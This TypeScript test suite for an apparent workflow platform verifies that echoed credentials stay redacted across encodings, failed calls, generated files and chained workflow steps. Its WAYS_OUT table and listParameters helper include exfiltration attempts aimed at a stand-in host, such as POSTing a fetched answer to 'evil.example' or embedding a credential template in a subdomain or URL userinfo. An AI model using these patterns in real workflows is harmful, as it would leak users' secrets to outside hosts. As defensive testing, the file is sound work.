import assert from "node:assert/strict";
import { before, describe, test } from "node:test";
import { KINDS, type Kind } from "./credential-kinds.ts";
import { one } from "./credential-world.ts";
import { ENCODINGS } from "./secret-spellings.ts";
import { containsSecret, OWNER, PLACEHOLDER, SHOP, type ShopWorld, shopWorld } from "./shop-world.ts";
import { tally } from "./tally.ts";

let world: ShopWorld;

before(async () => {
	world = await shopWorld();
	const inner = { name: "inner", description: "", version: "1", ...one(echo("as it is", "bearer")) };
	assert.equal((await world.send(OWNER, "POST", "/workflows", inner)).status, 201);
});

describe("a credential's value that its host echoes", () => {
	test("is in no answer, however its host encodes it", async (t) => {
		await tally(t, "echoes", async (count) => {
			for (const encoding of Object.keys(ENCODINGS)) {
				for (const kind of ["bearer", "basic", "header", "query", "path", "oauth", "sign_in"] as const) {
					for (const response of ["auto", "text", "base64"]) {
						const ran = await world.run({ ...echo(encoding, kind), response });
						count(ran.status === 200 && !containsSecret(ran.text), `${kind} ${encoding}: ${ran.text}`);
						assert.match(ran.text, REDACTED, `${kind} ${encoding} ${response}`);
					}
				}
			}
		});
	});

	test("is in no file that a recipe makes of the answer, however its host encodes it", async (t) => {
		await tally(t, "files", async (count) => {
			for (const encoding of Object.keys(ENCODINGS)) {
				for (const component of ["shop.echo", "shop.content"]) {
					for (const credential of ["bearer", "basic", "sign_in"]) {
						const ran = await world.run({ component, credential, encoding });
						const { $file: id } = ((ran.body as { data: unknown }).data ?? {}) as { $file?: string };
						const { text } = id === undefined ? ran : await world.send(OWNER, "GET", `/files/${id}/content`);
						const isCleared = REDACTED.test(text) || text.includes("the response holds no file as base64");
						count(isCleared && !containsSecret(text), `${component} ${credential} ${encoding}: ${text}`);
					}
				}
			}
		});
	});

	test("is in no answer of a failed call", async (t) => {
		const failing = [
			...[400, 401, 403, 404, 409, 422, 429, 500, 502, 503].map((status) => `/status/${status}`),
			"/hang",
			"/reset",
			"/half",
			"/not-json",
			"/location",
			"/large",
		];
		await tally(t, "failures", async (count) => {
			for (const path of failing) {
				// Slow ones are tested with one kind of credential only.
				const isSlow = /hang|reset|503|large/.test(path);
				for (const kind of isSlow ? (["query"] as const) : KINDS) {
					const settings = { component: "http_request", url: world.shop.url + path, credential: kind };
					const ran = await world.run({
						...settings,
						response: "json",
						attempts: path === "/status/503" || path === "/reset" ? 2 : 1,
						attempt_timeout_ms: 300,
					});
					count(ran.status === 500 && !containsSecret(ran.text), `${kind} ${path}: ${ran.text}`);
				}
			}
			for (const component of [
				{ component: "llm_chat", prompt: "a" },
				{ component: "embed", input: "a" },
			]) {
				for (const path of failing) {
					const settings = {
						...component,
						model: "m",
						base_url: world.shop.url + path,
						credential: "bearer",
					};
					const ran = await world.run({ ...settings, attempts: 1, attempt_timeout_ms: 300 });
					count(
						ran.status === 500 && !containsSecret(ran.text),
						`${component.component} ${path}: ${ran.text}`,
					);
				}
			}
			const nowhere = { component: "http_request", url: "http://127.0.0.1:1/", credential: "bearer" };
			const ran = await world.run({ ...nowhere, attempts: 1 });
			count(ran.status === 500, ran.text);
		});
	});

	test("cannot be extracted by processing the answer in a workflow", async (t) => {
		await tally(t, "ways out", async (count) => {
			const get = echo("as it is", "bearer");
			for (const [name, settings] of Object.entries(WAYS_OUT)) {
				const ran = await world.runOf(OWNER, buildChain(get, settings));
				count(!containsSecret(ran.text) && /redacted|"success":/.test(ran.text), `${name}: ${ran.text}`);
			}
			const asked = { name: "asked", description: "", version: "1", options: { query: true } };
			const respond = { component: "respond", headers: { etag: "{{get.data}}" }, body: "{{get}}" };
			await world.send(OWNER, "POST", "/workflows", {
				...asked,
				...buildChain(get, respond),
			});
			const answer = await world.send(OWNER, "GET", `/q/${OWNER}/asked`);
			count(answer.status === 200 && !containsSecret(answer.text), answer.text);
		});
	});

	test("is refused in parameters that are not only sent", async (t) => {
		await tally(t, "parameters", async (count) => {
			for (const kind of ["bearer", "basic"] as const) {
				for (const base of [`https://${SHOP}`, "https://evil.example"]) {
					for (const { settings, place } of listParameters(kind, base)) {
						const from = world.sent.length;
						const ran = await world.run({ ...settings, attempts: 1 });
						const away = world.away(from);
						const isKept =
							!containsSecret(ran.text) &&
							!away.some(({ text }) => containsSecret(text) || PLACEHOLDER.test(text));
						count(isKept, `${place} at ${base}: ${ran.text}`);
					}
				}
			}
		});
	});

	test("is not inserted for a placeholder from another run", async () => {
		const chat = { component: "llm_chat", base_url: `https://${SHOP}`, prompt: "a" };
		const told = await world.run({ ...chat, model: "{{credential.bearer.token}}" });
		const text = (told.body as { data: { model: string } }).data.model;
		const post = { component: "http_request", method: "POST", url: `https://${SHOP}/`, json: "{{input}}" };
		const from = world.sent.length;
		const ran = await world.runOf(OWNER, one(post), { text, [text]: [text] });
		assert.equal(ran.status, 200, ran.text);
		const sent = world.sent.slice(from).map(({ text: all }) => all);
		assert.equal(sent.length, 1);
		assert.ok(sent[0]?.includes(JSON.stringify(text)), sent.join());
		assert.ok(!containsSecret(sent.join()), sent.join());
	});

	test("is in no file, log line, answer or request to a foreign host", (t) => world.finish(t));
});

/** A node that fetches, and one that processes the answer. */
const buildChain = (get: object, out: object) => ({
	triplets: ["input >> ON_SUCCESS >> get", "get >> ON_SUCCESS >> out"],
	config: { get, out },
});

const REDACTED = /\[redacted\]|cmVkYWN0ZWR|W3JlZGFjdGVkX|tyZWRhY3RlZF|JlZGFjdGVk/;

/** Each processes the answer of a call that echoed the value. */
const WAYS_OUT: Readonly<Record<string, object>> = {
	set: { component: "set", values: "{{get}}" },
	template: { component: "template", text: "{{get.data}} {{get.headers | json}}" },
	fail: { component: "fail", message: "{{get.data}}" },
	code: {
		component: "code",
		code: "console.log(JSON.stringify(input)); return [...JSON.stringify(input)].reverse().join('')",
		input: "{{get}}",
	},
	"code that throws": { component: "code", code: "throw new Error(JSON.stringify(input))", input: "{{get}}" },
	"a sub-run": { component: "workflow", name: "inner", input: { of: "{{get.data}}" } },
	emit_event: { component: "emit_event", type: "order.paid", data: "{{get}}" },
	kb_upsert: { component: "kb_upsert", page_name: "answer", content: "{{get.data}}", metadata: "{{get}}" },
	crypto: { component: "crypto", operation: "hmac_sha256", value: "{{get.data}}", key: "k", encoding: "hex" },
	map: { component: "map", items: ["{{get.data}}"], value: "item + item" },
	"another host": {
		component: "http_request",
		method: "POST",
		url: "https://evil.example/",
		json: "{{get}}",
	},
};

const echo = (encoding: string, credential: Kind) => ({
	component: "http_request",
	url: `${world.shop.url}/echo/${encodeURIComponent(encoding)}`,
	credential,
});

/** `{{credential.X}}` in place of every text of every parameter, with an allowed or a foreign host. */
function listParameters(kind: Kind, base: string): { place: string; settings: object }[] {
	const value = `{{credential.${kind}.${kind === "bearer" ? "token" : "password"}}}`;
	const http = { component: "http_request", url: `${base}/`, method: "POST" };
	const model = { model: "m", base_url: base };
	const chat = { component: "llm_chat", ...model, prompt: "a" };
	const embed = { component: "embed", ...model, input: "a" };
	const page = { component: "http_request", url: `${base}/items` };
	const recipe = { credential: kind, status: "302", to: base };
	const all: object[] = [
		{ ...http, url: value },
		{ ...http, url: `https://${value}/` },
		{ ...http, url: `https://${value}.evil.example/` },
		{ ...http, url: `https://${value}@${SHOP}/` },
		{ ...http, url: `${base}:${value}/` },
		{ ...http, url: `${base}/${value}` },
		{ ...http, url: `${base}/?a=${value}` },
		{ ...http, url: `${base}/#${value}` },
		{ ...http, method: value },
		{ ...http, query: { a: [value, { b: value }] } },
		{ ...http, query: { [value]: 1 } },
		{ ...http, query: value },
		{ ...http, headers: { "x-a": value } },
		{ ...http, headers: { [value]: "a" } },
		{ ...http, headers: { host: value } },
		{ ...http, headers: { "content-type": value }, text: "a" },
		{ ...http, json: value },
		{ ...http, json: { [value]: value } },
		{ ...http, form: { a: value } },
		{ ...http, form: { [value]: "a" } },
		{ ...http, text: value },
		{ ...http, base64: value },
		{ ...http, multipart: [{ name: "a", text: value }] },
		{ ...http, multipart: [{ name: value, text: "a" }] },
		{ ...http, multipart: [{ name: "a", base64: value }] },
		{ ...http, multipart: [{ name: "a", text: "a", filename: value }] },
		{ ...http, multipart: [{ name: "a", text: "a", content_type: value }] },
		{ ...http, response: value },
		{ ...http, expect: [value] },
		{ ...http, attempt_timeout_ms: value },
		{ ...http, credential: value },
		{ ...page, paginate: { by: value } },
		{ ...page, paginate: { by: "link", url: value, items: "items" } },
		{ ...page, paginate: { by: "link", items: value } },
		{ ...page, paginate: { by: "cursor", cursor: value, param: "a", items: "items" } },
		{ ...page, paginate: { by: "cursor", cursor: "items", param: value, items: "items" } },
		{ ...page, paginate: { by: "cursor", cursor: "next", param: value, items: "items" } },
		{ ...page, paginate: { by: "cursor", cursor: "next", param: "a", items: value } },
		{ ...page, paginate: { by: "page", param: value, items: "items" } },
		{ ...page, paginate: { by: "page", param: "a", size_param: value, size: 1, items: value } },
		{ ...chat, model: value },
		{ ...chat, base_url: `${base}/${value}` },
		{ ...chat, base_url: `https://${value}.evil.example` },
		{ ...chat, prompt: value },
		{ ...chat, system: value },
		{ ...chat, prompt: undefined, messages: [{ role: "user", content: value }] },
		{ ...chat, prompt: undefined, messages: [{ role: value, content: "a" }] },
		{ ...chat, prompt: undefined, messages: [{ role: "user", content: [{ type: "text", text: value }] }] },
		{ ...chat, schema: { type: "object", description: value } },
		{ ...chat, schema: { type: value } },
		{ ...chat, schema: { type: "object", required: [value], properties: { [value]: {} } } },
		{ ...chat, schema_by: value },
		{ ...chat, stop: [value] },
		{ ...chat, provider: value },
		{ ...chat, provider: "anthropic", model: value },
		{ ...chat, stream: true, model: value },
		{ ...chat, extra: { a: value, [value]: 1 } },
		{ ...embed, model: value },
		{ ...embed, input: [value] },
		{ ...embed, base_url: `${base}/${value}` },
		{ ...embed, extra: { model: value } },
		{ ...embed, dimensions: value },
		{ ...recipe, component: "shop.get", to: value },
		{ ...recipe, component: "shop.get", status: value },
		{ ...recipe, component: "shop.send", to: value },
		{ ...recipe, component: "shop.get", credential: value },
	];
	return all.map((settings) => ({ place: JSON.stringify(settings).slice(0, 160), settings }));
}
